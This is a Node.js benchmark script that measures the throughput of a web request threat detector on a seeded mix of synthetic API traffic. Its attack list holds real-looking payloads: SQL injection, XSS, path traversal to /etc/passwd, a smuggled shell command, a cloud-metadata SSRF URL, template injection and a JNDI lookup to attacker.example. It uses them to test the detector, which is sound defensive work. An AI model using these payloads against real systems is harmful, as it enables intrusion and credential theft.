#!/usr/bin/env node
// The request_threats detector on realistic API traffic: requests a second through parts,
// decoding and every engine, on a seeded mix that is mostly benign (JSON bodies, query strings,
// browser and app headers, cookies) with a few attacks; printed against the 50,000 requests/s
// target and against the floor of only taking the requests apart (no engines), measured in the
// same run. Runs on the built package: `npx turbo run build` first.
//   BENCH_THREAT_REQUESTS   distinct requests in the mix (default 20000)
//   BENCH_THREAT_ATTACKS    share of attacks in the mix (default 0.02)
import { existsSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = resolve(fileURLToPath(import.meta.url), '../../..');
const N = Number(process.env.BENCH_THREAT_REQUESTS ?? 20_000);
const ATTACK_SHARE = Number(process.env.BENCH_THREAT_ATTACKS ?? 0.02);
const TARGET = 50_000;
const MEASURE_MS = 2000;

const dist = join(root, 'packages/anomaly/dist');
const detectorFile = join(dist, 'detectors/threats/requestThreats.js');
if (!existsSync(detectorFile)) {
  console.error(`threatBench: ${detectorFile} is missing; run npx turbo run build first.`);
  process.exit(2);
}
const anomalyRequire = createRequire(join(root, 'packages/anomaly/package.json'));
const { RequestThreats, requestThreatsConfigSchema } = anomalyRequire(detectorFile);
const { extractRequestParts } = anomalyRequire(join(dist, 'threats/requestParts.js'));
const { THREAT_ENGINES } = anomalyRequire(join(dist, 'threats/threatEngines.js'));
const engineNames = THREAT_ENGINES.map((e) => e.category).join(', ');
const { Counters } = anomalyRequire('@sidetap/core');

// mulberry32: the same mix on every run.
let seed = 20231114;
const random = () => {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
};
const pick = (list) => list[Math.floor(random() * list.length)];
const int = (lo, hi) => lo + Math.floor(random() * (hi - lo + 1));

const WORDS = ['red', 'shoes', 'running', 'blue', 'jacket', 'winter', 'sale', 'kids', 'leather', 'bag', "O'Brien", 'Tom & Jerry', 'size 42', 'café'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
  'ShopApp/4.12.0 (Android 14; Pixel 7)',
  'okhttp/4.11.0',
  'python-requests/2.31.0',
];
const ENDPOINTS = ['/api/v1/products', '/api/v1/orders', '/api/v1/cart/items', '/api/v1/users/{id}', '/api/v1/search', '/api/v1/reviews'];
const ATTACKS = [
  ['query', "q=%27%20OR%201%3D1--"],
  ['query', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['query', "id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"],
  ['json', { comment: '<img src=x onerror=alert(document.cookie)>' }],
  ['json', { name: "x' AND SLEEP(5)-- -" }],
  ['header', '<svg/onload=alert(1)>'],
  ['query', 'q=%2527%2520OR%25201%253D1--'],
  ['query', 'file=..%2F..%2F..%2Fetc%2Fpasswd'],
  ['json', { host: 'example.com; cat /etc/passwd' }],
  ['json', { webhook: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }],
  ['json', { password: { $ne: null } }],
  ['json', { greeting: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }],
  ['header', '${jndi:ldap://attacker.example/a}'],
]; // one or more attacks per engine

function benignBody() {
  return {
    items: Array.from({ length: int(1, 4) }, () => ({ sku: `SKU-${int(1000, 9999)}`, qty: int(1, 5), price: int(100, 99999) / 100 })),
    shipping: { name: 'Ada Lovelace', street: `${int(1, 200)} Market Street`, city: 'London', zip: `N${int(1, 9)} ${int(1, 9)}AB` },
    note: random() < 0.3 ? `Please ring twice, it's the ${pick(['blue', 'green'])} door` : '',
    gift: random() < 0.2,
    coupon: random() < 0.1 ? 'SAVE10' : null,
  };
}

function makeEvent(i) {
  const endpoint = pick(ENDPOINTS);
  const post = random() < 0.4;
  const headers = {
    host: 'api.shop.example',
    'user-agent': pick(AGENTS),
    accept: pick(['application/json', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8', '*/*']),
    'accept-language': 'en-GB,en;q=0.9',
    'accept-encoding': 'gzip, deflate, br',
    authorization: 'Bearer h:AAAAAAAAAAAAAAAAAAAAAA',
    'x-request-id': `${int(1e8, 9e8)}-${int(1e3, 9e3)}`,
    cookie: `sid=h:BBBBBBBBBBBBBBBBBBBBBB; theme=${pick(['dark', 'light'])}; lang=en`,
  };
  if (random() < 0.5) headers.referer = `https://shop.example/search?q=${encodeURIComponent(pick(WORDS))}&page=${int(1, 9)}`;
  let query = post ? undefined : `q=${encodeURIComponent(pick(WORDS)).replace(/%20/g, '+')}&page=${int(1, 20)}&sort=-price&limit=20`;
  let body = post ? benignBody() : undefined;
  const attack = random() < ATTACK_SHARE;
  if (attack) {
    const [where, payload] = pick(ATTACKS);
    if (where === 'query') query = `${payload}&page=1`;
    else if (where === 'json') body = { ...benignBody(), ...payload };
    else headers['user-agent'] = payload;
  }
  const content = body === undefined ? undefined : JSON.stringify(body);
  const path = endpoint.replace('{id}', String(int(1, 99999)));
  if (attack) attacks++;
  return {
    '@timestamp': new Date(1_700_000_000_000 + i).toISOString(),
    event: { id: `e${i}`, kind: 'event', category: ['network'], type: ['connection', 'protocol'], dataset: 'sidetap.event' },
    source: { ip: `203.0.113.${i % 250}`, port: 40000, bytes: 600 },
    destination: { ip: '10.0.0.10', port: 80, bytes: 900 },
    network: { transport: 'tcp', type: 'ipv4', protocol: 'http' },
    http: {
      version: '1.1',
      request: { method: post ? 'POST' : 'GET', headers, body: content === undefined ? { bytes: 0 } : { bytes: content.length, content }, ...(content ? { mime_type: 'application/json' } : {}) },
      response: { status_code: 200, headers: {}, body: { bytes: 100 } },
    },
    url: { original: query ? `${path}?${query}` : path, path, ...(query ? { query } : {}) },
    sidetap: {
      capture: { source: 'pcap', flags: [] },
      actor_key: `ip:203.0.113.${i % 250}`,
      actor: { kind: 'ip', id: `203.0.113.${i % 250}` },
      session: { id: `s${i % 500}`, seq: 1, timeline: `ip:203.0.113.${i % 250}` },
      endpoint,
    },
  };
}

let attacks = 0;
const events = Array.from({ length: N }, (_, i) => makeEvent(i));
const config = requestThreatsConfigSchema.parse({});
const counters = new Counters();
const detector = new RequestThreats(config, counters);

const seconds = (started) => Number(process.hrtime.bigint() - started) / 1e9;

async function measure(pass) {
  await pass(); // warm-up, untimed
  let passes = 0;
  const started = process.hrtime.bigint();
  do {
    await pass();
    passes++;
  } while (seconds(started) * 1000 < MEASURE_MS);
  return (N * passes) / seconds(started);
}

let findings = 0;
const detectRate = await measure(async () => {
  findings = 0;
  for (const e of events) findings += (await detector.observe(e, 0)).length;
});
const memoResets = counters.get('anomaly_threat_memo_resets_total');
const noMemo = new RequestThreats(requestThreatsConfigSchema.parse({ memoEntries: 0 }), new Counters());
const noMemoRate = await measure(async () => {
  for (const e of events) await noMemo.observe(e, 0);
});
const partsRate = await measure(async () => {
  for (const e of events) extractRequestParts(e, config.parts);
});
const partsPerRequest = events.reduce((n, e) => n + extractRequestParts(e, config.parts).parts.length, 0) / N;

const fmt = (n) => Math.round(n).toLocaleString('en-US').padStart(10);
console.log(`request_threats on ${N} requests (${attacks} attacks, ${partsPerRequest.toFixed(1)} parts a request), engines: ${engineNames}; one core:`);
console.log(`  parts only (extract, no engines)  ${fmt(partsRate)} requests/s   (the floor)`);
console.log(`  request_threats.observe           ${fmt(detectRate)} requests/s   ${(detectRate / partsRate).toFixed(2)}x the floor's rate`);
console.log(`  without the value memo             ${fmt(noMemoRate)} requests/s   (memoEntries: 0; the memo started over ${memoResets} times above)`);
console.log(`  findings a pass: ${findings} (one per attacked request and category; benign requests raise none)`);
console.log(`  target: >= ${TARGET.toLocaleString('en-US')} requests/s: ${detectRate >= TARGET ? 'met' : 'NOT MET'} (at ${(detectRate / TARGET).toFixed(2)}x the target)`);
